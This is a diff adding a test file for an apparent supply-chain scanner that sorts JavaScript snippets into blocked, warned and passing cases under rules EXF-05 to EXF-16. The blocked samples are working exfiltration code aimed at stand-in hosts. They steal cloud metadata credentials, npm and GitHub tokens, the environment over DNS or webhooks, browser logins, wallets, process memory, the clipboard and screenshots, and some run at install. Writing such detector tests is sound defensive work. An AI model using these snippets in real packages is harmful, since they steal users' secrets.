@@ -1,0 +1,252 @@
+import { asCommand, atInstall, base64, describeVerdicts } from "../../support/verdicts.ts";
+
+const url = "https://files.example.test/c";
+
+describeVerdicts("EXF-05", {
+  blocks: {
+    "credentials of the machine": `
+      fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/x")
+        .then((r) => r.text())
+        .then((t) => fetch("${url}", { method: "POST", body: t }));`,
+    "an address as a number": `
+      (async () => {
+        const r = await fetch("http://2852039166/latest/meta-data/");
+        await fetch("${url}", { method: "POST", body: await r.text() });
+      })();`,
+    "by name and another client": `
+      const axios = require("axios");
+      axios.get("http://metadata.google.internal/computeMetadata/v1/", { headers: { "Metadata-Flavor": "Google" } })
+        .then(({ data }) => axios.post("${url}", data));`,
+  },
+  passes: {
+    "a credential provider": `
+      exports.credentials = async () => {
+        const r = await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/x");
+        return r.json();
+      };`,
+    "a test for a cloud": `
+      exports.isCloud = () => fetch("http://169.254.169.254/").then(() => true, () => false);
+      exports.latest = () => fetch("${url}").then((r) => r.json());`,
+    "a client of the same cloud": `
+      exports.call = async () => {
+        const r = await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/x");
+        return fetch("https://s3.amazonaws.com/", { headers: { authorization: await r.text() } });
+      };`,
+  },
+});
+
+describeVerdicts("EXF-06", {
+  blocks: {},
+  warns: {
+    "facts about the machine at load": `
+      const os = require("os");
+      const data = { h: os.hostname(), u: os.userInfo().username, n: os.networkInterfaces(), c: process.cwd() };
+      fetch("${url}", { method: "POST", body: JSON.stringify(data) });`,
+  },
+  passes: {
+    "facts that are given back": `
+      const os = require("os");
+      module.exports = () => ({ h: os.hostname(), u: os.userInfo().username, n: os.networkInterfaces() });`,
+    "one fact": `
+      const os = require("os");
+      fetch("${url}", { method: "POST", body: os.hostname() });`,
+    "a report to the caller's address": `
+      const os = require("os");
+      exports.report = (to) => fetch(to, { method: "POST", body: JSON.stringify([os.hostname(), os.userInfo(), os.networkInterfaces()]) });`,
+  },
+});
+
+describeVerdicts("EXF-07", {
+  blocks: {
+    "a secret in a name": `
+      const dns = require("dns");
+      const hex = Buffer.from(process.env.NPM_TOKEN || "").toString("hex");
+      dns.lookup(hex.slice(0, 60) + ".d.example.test", () => {});`,
+    "chunks in a loop": atInstall(
+      `const dns = require("node:dns/promises");
+       const data = Buffer.from(JSON.stringify(process.env)).toString("hex");
+       for (let i = 0; i < data.length; i += 50) dns.resolve4(data.slice(i, i + 50) + "." + i + ".d.example.test");`,
+    ),
+    "who somebody is": atInstall(
+      `const os = require("os"), dns = require("dns");
+       const id = [os.hostname(), os.userInfo().username, process.cwd()].join("-");
+       dns.resolve(Buffer.from(id).toString("hex") + ".d.example.test", () => {});`,
+    ),
+    "by a command": atInstall(
+      `const { execSync } = require("child_process");
+       const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc").toString("hex").slice(0, 60);
+       execSync("nslookup " + t + ".d.example.test");`,
+    ),
+  },
+  passes: {
+    "a name of the caller": `module.exports = (host) => require("dns").promises.resolveMx(host);`,
+    "a constant name": `require("dns").lookup("files.example.test", () => {});`,
+    "one's own name": `const os = require("os"); require("dns").lookup(os.hostname(), (e, a) => { exports.address = a; });`,
+  },
+});
+
+describeVerdicts("EXF-08", {
+  blocks: {
+    "a chat": `fetch("https://discord.com/api/webhooks/1/x", { method: "POST", body: JSON.stringify({ content: process.env.NPM_TOKEN }) });`,
+    "a bot": `
+      const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8");
+      require("https").get("https://api.telegram.org/bot1:x/sendMessage?text=" + encodeURIComponent(t));`,
+    "a new repository": `
+      const { Octokit } = require("@octokit/rest");
+      const o = new Octokit({ auth: process.env.GITHUB_TOKEN });
+      o.rest.repos.createOrUpdateFileContents({ owner: "a", repo: "b", path: "c", message: "d", content: Buffer.from(JSON.stringify(process.env)).toString("base64") });`,
+  },
+  passes: {
+    "a chat bot": `
+      exports.say = (text) => fetch("https://discord.com/api/v10/channels/1/messages", { method: "POST", body: text, headers: { authorization: "Bot " + process.env.DISCORD_TOKEN } });`,
+    "a release tool": asCommand(
+      `const { Octokit } = require("@octokit/rest");
+       const o = new Octokit({ auth: process.env.GITHUB_TOKEN });
+       o.rest.repos.createRelease({ owner: "a", repo: "b", tag_name: process.argv[2] });`,
+    ),
+    "a message of the caller": `exports.notify = (text) => fetch(process.env.SLACK_WEBHOOK_URL, { method: "POST", body: text });`,
+  },
+});
+
+describeVerdicts("EXF-09", {
+  blocks: {
+    "at install": atInstall(
+      `const { execSync } = require("child_process");
+       const out = execSync("trufflehog filesystem ~ --json").toString();
+       require("fs").writeFileSync("/tmp/x", out);`,
+    ),
+    "brought along at load": `
+      require("child_process").spawn("./bin/gitleaks", ["detect", "--source", process.env.HOME]);`,
+  },
+  passes: {
+    "a command that somebody starts": asCommand(
+      `require("child_process").spawnSync("gitleaks", ["detect"], { stdio: "inherit" });`,
+    ),
+    "a word in a text": `console.log("use gitleaks before you push");`,
+    "another tool": atInstall(`require("child_process").execSync("git status");`),
+  },
+});
+
+describeVerdicts("EXF-11", {
+  blocks: {
+    "memory of a process": `
+      const fs = require("fs");
+      for (const pid of fs.readdirSync("/proc")) {
+        try { fs.readFileSync("/proc/" + pid + "/environ"); } catch {}
+      }`,
+    "memory, at install": atInstall(
+      `const fs = require("fs");
+       const maps = fs.readFileSync("/proc/1234/maps", "utf8");
+       const fd = fs.openSync("/proc/1234/mem", "r");`,
+    ),
+  },
+  passes: {
+    "a debugger": asCommand(
+      `require("fs").readFileSync("/proc/" + process.argv[2] + "/maps", "utf8");`,
+    ),
+    "the load of the machine": `exports.load = () => require("fs").readFileSync("/proc/loadavg", "utf8");`,
+    "the limits of a container": `module.exports = () => require("fs").readFileSync("/proc/self/cgroup", "utf8");`,
+  },
+});
+
+describeVerdicts("EXF-12", {
+  blocks: {
+    "saved logins": `
+      const fs = require("fs"), os = require("os");
+      fs.copyFileSync(os.homedir() + "/.config/google-chrome/Default/Login Data", "/tmp/l");`,
+    "a wallet that is sent": `
+      const fs = require("fs"), os = require("os");
+      exports.go = () => fetch("${url}", { method: "POST", body: fs.readFileSync(os.homedir() + "/.config/solana/id.json") });`,
+    "wallet extensions": atInstall(
+      `const fs = require("fs"), os = require("os");
+       const dir = os.homedir() + "/AppData/Local/Google/Chrome/User Data/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn";
+       for (const f of fs.readdirSync(dir)) fs.readFileSync(dir + "/" + f);`,
+    ),
+  },
+  warns: {
+    "a library for cookies": `
+      const fs = require("fs"), os = require("os");
+      exports.cookies = () => fs.readFileSync(os.homedir() + "/.config/google-chrome/Default/Cookies");`,
+  },
+  passes: {
+    "a test for a browser": `exports.has = () => require("fs").existsSync("/usr/bin/google-chrome");`,
+    "a folder of the caller": `exports.read = (dir) => require("fs").readFileSync(dir + "/Cookies");`,
+    "a command that starts a browser": asCommand(
+      `require("child_process").spawn("google-chrome", ["--user-data-dir=/tmp/p"]);`,
+    ),
+  },
+});
+
+describeVerdicts("EXF-13", {
+  blocks: {
+    "the clipboard, again and again": `
+      const { execSync } = require("child_process");
+      setInterval(() => {
+        const text = execSync("pbpaste").toString();
+        fetch("${url}", { method: "POST", body: text });
+      }, 1000);`,
+    "the screen": atInstall(
+      `const shot = require("screenshot-desktop");
+       shot().then((img) => fetch("${url}", { method: "POST", body: img }));`,
+    ),
+  },
+  passes: {
+    "a library for the clipboard": `
+      exports.read = () => require("child_process").execFileSync("pbpaste").toString();
+      exports.write = (t) => require("child_process").execFileSync("pbcopy", { input: t });`,
+    "a screenshot for the caller": `exports.shot = (to) => require("child_process").execFileSync("screencapture", [to]);`,
+    "a page that copies": `document.querySelector("#c").addEventListener("click", () => navigator.clipboard.writeText("x"));`,
+  },
+});
+
+describeVerdicts("EXF-15", {
+  blocks: {
+    "an image": `new Image().src = "${url}?k=" + process.env.STRIPE_SECRET_KEY;`,
+    "a header of an unrelated request": `
+      const a = Buffer.from(process.env.NPM_TOKEN ?? "").toString("base64");
+      fetch("${url}", { headers: { "user-agent": "x/" + a } });`,
+    "an encoded address": `
+      const u = Buffer.from("${base64(url)}", "base64").toString();
+      fetch(u + "?" + new URLSearchParams({ id: process.env.AWS_SECRET_ACCESS_KEY }));`,
+  },
+  passes: {
+    "an id made at random": `fetch("${url}", { headers: { "x-request-id": require("crypto").randomUUID() } });`,
+    "a token for its own service": `exports.get = (p) => fetch("https://api.stripe.com/v1" + p, { headers: { authorization: "Bearer " + process.env.STRIPE_SECRET_KEY } });`,
+    "a header of the caller": `exports.get = (key) => fetch("${url}", { headers: { "x-api-key": key } });`,
+  },
+});
+
+describeVerdicts("EXF-16", {
+  blocks: {
+    "requests that are copied": `
+      const original = globalThis.fetch;
+      globalThis.fetch = function (input, init) {
+        original("${url}", { method: "POST", body: JSON.stringify([input, init]) });
+        return original(input, init);
+      };`,
+    "what others send": `
+      const https = require("https");
+      const request = https.request;
+      https.request = function (options, callback) {
+        const copy = request("${url}", { method: "POST" });
+        copy.end(JSON.stringify(options));
+        return request(options, callback);
+      };`,
+  },
+  passes: {
+    "times to the caller's address": `
+      exports.trace = (to) => {
+        const original = globalThis.fetch;
+        globalThis.fetch = async (...args) => {
+          const start = Date.now();
+          const answer = await original(...args);
+          original(to, { method: "POST", body: String(Date.now() - start) });
+          return answer;
+        };
+      };`,
+    "a mock": `
+      exports.mock = (answer) => { const original = globalThis.fetch; globalThis.fetch = async () => answer; return () => { globalThis.fetch = original; }; };`,
+    "a retry": `
+      exports.withRetry = (original) => async (...args) => { try { return await original(...args); } catch { return original(...args); } };`,
+  },
+});
